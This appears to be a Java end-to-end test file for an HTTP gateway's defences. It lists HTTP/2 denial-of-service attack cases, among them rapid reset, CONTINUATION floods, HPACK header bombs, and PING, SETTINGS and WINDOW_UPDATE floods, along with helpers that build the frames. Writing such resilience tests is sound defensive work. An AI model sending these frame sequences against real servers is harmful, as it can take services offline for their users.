package io.scopegate.e2e.hostile;

import io.scopegate.e2e.wire.Frames;
import io.scopegate.e2e.wire.Hpack;
import java.util.List;

/** Attacks by HTTP/2 without a credential. */
final class Http2Attacks {
  private static final byte[] SEARCH = Hpack.get("/api/search").bytes();
  private static final byte[] NOTHING = new byte[0];

  /** Each is a byte on the wire. */
  private static final byte[] TINY_FIELDS =
      Hpack.get("/api/search").indexed(Hpack.NEWEST, 900).bytes();

  private static final Hpack TOO_LARGE =
      Hpack.get("/api/search").announced("a", 38_000).raw(new byte[32_000]);

  private Http2Attacks() {}

  static List<Attack> all() {
    return List.of(
        Attack.called("answers that may not be sent: a window of 0")
            .through(Door.H2_ALL)
            .from(110)
            .times(1_000)
            .settings(Frames.INITIAL_WINDOW_SIZE, 0)
            .sends((scene, number) -> search(scene.stream(number))),
        Attack.called("answers that nobody reads, on many streams")
            .through(Door.H2_ALL)
            .from(50)
            .times(2_000)
            .unread()
            .sends((scene, number) -> search(scene.stream(number))),
        Attack.called("CVE-2026-49975, CVE-2026-47774, HTTP/2 Bomb: a field a byte")
            .through(Door.H2_ALL)
            .from(20)
            .times(500)
            .sends(Http2Attacks::tinyFields),
        Attack.called("HTTP/2 Bomb: heads of a field a byte that never end")
            .through(Door.H2_ALL)
            .from(110)
            .endsByTimeout()
            .sends((scene, number) -> endlessFields(scene.firstStream())),
        Attack.called("HEADERS without END_HEADERS, and then nothing")
            .through(Door.H2_ALL)
            .from(500)
            .endsByTimeout()
            .sends((scene, number) -> Frames.unended(scene.firstStream(), TOO_LARGE)),
        Attack.called("CVE-2026-33871: empty CONTINUATION without end")
            .through(Door.H2_ALL)
            .from(10)
            .times(100_000)
            .sends(Http2Attacks::emptyContinuation),
        Attack.called("CVE-2026-33871: CONTINUATION without end")
            .through(Door.H2_ALL)
            .from(10)
            .times(400)
            .sends(Http2Attacks::continuation),
        Attack.called("CVE-2026-50560: SETTINGS_MAX_HEADER_LIST_SIZE that no answer fits in")
            .through(Door.H2_ALL)
            .from(10)
            .times(10_000)
            .settings(Frames.MAX_HEADER_LIST_SIZE, 1)
            .sends((scene, number) -> search(scene.stream(number))),
        Attack.called("CVE-2023-44487, rapid reset: refused requests")
            .through(Door.H2_ALL)
            .from(10)
            .times(10_000)
            .sends((scene, number) -> openedAndReset(scene.stream(number))),
        Attack.called("CVE-2019-9512: PINGs whose answers nobody reads")
            .through(Door.H2_ALL)
            .from(10)
            .times(200_000)
            .unread()
            .sends((scene, number) -> Frames.frame(Frames.PING, 0, 0, new byte[8])),
        Attack.called("CVE-2019-9515: SETTINGS whose answers nobody reads")
            .through(Door.H2_ALL)
            .from(10)
            .times(200_000)
            .unread()
            .sends((scene, number) -> Frames.frame(Frames.SETTINGS, 0, 0)),
        Attack.called("frames of no known type")
            .through(Door.H2)
            .from(10)
            .times(50_000)
            .sends((scene, number) -> Frames.frame(0xbe, 0xff, 0, new byte[20])),
        Attack.called("CVE-2019-9513: PRIORITY of streams that are not there")
            .through(Door.H2)
            .from(10)
            .times(50_000)
            .sends((scene, number) ->
                Frames.frame(Frames.PRIORITY, 0, 2 * number + 1_000_001, new byte[5])),
        Attack.called("WINDOW_UPDATE without end")
            .through(Door.H2)
            .from(10)
            .times(50_000)
            .sends((scene, number) -> Frames.window(0, 1)));
  }

  static byte[] search(int stream) {
    return Frames.frame(
        Frames.HEADERS, Frames.END_STREAM | Frames.END_HEADERS, stream, SEARCH.clone());
  }

  private static byte[] openedAndReset(int stream) {
    return Frames.join(search(stream), Frames.reset(stream));
  }

  private static byte[] tinyFields(Attack.Scene scene, int number) {
    if (number == 0) {
      Hpack first = Hpack.get("/api/search").remembered("a", "");
      return Frames.request(scene.firstStream(), first);
    }
    return Frames.request(scene.stream(number), new Hpack().raw(TINY_FIELDS));
  }

  private static byte[] endlessFields(int stream) {
    Hpack block = Hpack.get("/api/search").remembered("a", "").indexed(Hpack.NEWEST, 30_000);
    return Frames.unended(stream, block);
  }

  private static byte[] emptyContinuation(Attack.Scene scene, int number) {
    return number == 0
        ? Frames.unended(scene.firstStream(), Hpack.get("/api/search"))
        : Frames.frame(Frames.CONTINUATION, 0, scene.firstStream(), NOTHING);
  }

  private static byte[] continuation(Attack.Scene scene, int number) {
    return number == 0
        ? Frames.unended(scene.firstStream(), Hpack.get("/api/search"))
        : Frames.frame(
            Frames.CONTINUATION,
            0,
            scene.firstStream(),
            new Hpack().field("a" + number, "v".repeat(10_000)).bytes());
  }
}
